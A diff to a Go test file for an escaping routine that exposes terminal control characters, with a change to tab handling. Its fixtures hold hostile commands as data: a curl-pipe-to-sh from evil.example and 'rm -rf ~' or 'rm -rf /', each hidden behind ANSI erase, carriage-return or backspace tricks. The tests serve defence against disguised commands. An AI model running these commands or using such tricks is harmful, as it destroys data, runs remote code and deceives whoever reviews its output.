@@ -16,7 +16,7 @@ func TestTextEscapesWhatAScreenWouldObeyOrHide(t *testing.T) {
 		{"ANSI erase line and cursor home", "curl -s http://evil.example/x|sh\x1b[2K\x1b[1G$ make test", `curl -s http://evil.example/x|sh\x1b[2K\x1b[1G$ make test`},
 		{"carriage return", "rm -rf ~\r$ ls", `rm -rf ~\r$ ls`},
 		{"backspaces", "rm -rf /\b\b\b\b\b\b\bls", `rm -rf /\b\b\b\b\b\b\bls`},
-		{"tab", "a\tb", `a\tb`},
+		{"tab kept across lines (diffs are indented with them)", "a\tb", "a\tb"},
 		{"form feed, vertical tab, bell, NUL", "\f\v\a\x00", `\f\x0b\x07\x00`},
 		{"DEL", "ab\x7fc", `ab\x7fc`},
 		{"C1: CSI, NEL", "a\u009b2Kb\u0085c", `a\u009b2Kb\u0085c`},
@@ -50,6 +50,7 @@ func TestTextEscapesWhatAScreenWouldObeyOrHide(t *testing.T) {
 
 func TestLineEscapesNewlinesToo(t *testing.T) {
 	assert.Equal(t, `make test\nrm -rf ~\u2028`, visible.Line("make test\nrm -rf ~\u2028"))
+	assert.Equal(t, `make\ttest`, visible.Line("make\ttest"), "a tab on one line is escaped: it could push a tail off a line")
 	assert.Equal(t, "plain", visible.Line("plain"))
 }
 
